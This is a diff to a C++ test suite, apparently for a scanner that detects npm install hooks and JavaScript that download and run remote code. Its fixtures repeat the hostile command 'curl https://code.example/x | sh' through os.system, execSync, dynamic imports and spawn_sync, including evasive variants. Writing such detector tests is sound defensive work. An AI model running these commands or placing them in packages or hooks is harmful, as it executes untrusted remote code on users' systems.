@@ -132,7 +132,7 @@ TEST_CASE("npm: the file that a hook runs is followed, whatever runs it") {
     const Files files = {{"i.js", kRunsPipe}, {"lib/i.js", kRunsPipe}, {"lib/index.js", kRunsPipe}, {"index.js", kRunsPipe}, {"i.txt", kPipe}, {"i.py", "import os\nos.system('curl https://code.example/x | sh')\n"},
                          {"pk/__main__.py", "import os\nif __name__ == '__main__':\n    os.system('curl https://code.example/x | sh')\n"}, {"run", "#!/usr/bin/env node\n" + kRunsPipe}};
     for (const char* const command : {"node .", "node ./", "node ./lib", "cd lib && node i", "cd lib && node .", "env node i.js", "env -u X A=b node i", "npm -s run x", "npm run --silent x", "cat i.txt | sh", "sh i.txt", "sh -e ./i.txt",
-                                      "bash < i.txt", "python3 i.py", "python3 pk", "python -m pk", "/usr/bin/node i", "./run", "sh -c 'node i'", "no\\\\de i.js", "node --require=./i.js -v", "sudo -E node i.js"}) {
+                                      "bash < i.txt", "python3 i.py", "python3 pk", "python -m pk", "/usr/bin/node i", "./run", "sh -c 'node i'", "no\\\\de i.js", "node --require=./i.js i", "sudo -E node i.js"}) {
         CAPTURE(command);
         const Outcome run = hook(command, files, R"(, "x": "node i.js")");
         CHECK(run.has_trait("fetches-and-runs-at-install"));
@@ -189,6 +189,7 @@ TEST_CASE("JavaScript: roundabout ways to code and to programs") {
     CHECK(run("fetch('https://code.example/x').then(r=>r.text()).then(eval)").has_trait("downloaded-code-at-install"));
     CHECK_FALSE(run("fetch('https://code.example/x').then(r=>r.text()).then(console.log)").has_trait("downloaded-code-at-install"));
     for (const char* const source : {"import('child_process').then(c => c.execSync('curl https://code.example/x | sh'))", "import('node:child_process').then(async ({ exec: run }) => { run('curl https://code.example/x | sh') })",
+                                     "import(`child_process`).then((m) => { m.execSync('curl https://code.example/x | sh') })",
                                      "#!/usr/bin/env node\nimport(\"child_process\").then(function (m) { m.execSync('curl https://code.example/x | sh') })", "(await import('child_process')).execSync('curl https://code.example/x | sh')",
                                      "process.binding('spawn_sync').spawn({ args: ['sh', '-c', 'curl https://code.example/x | sh'] })"}) {
         CAPTURE(source);
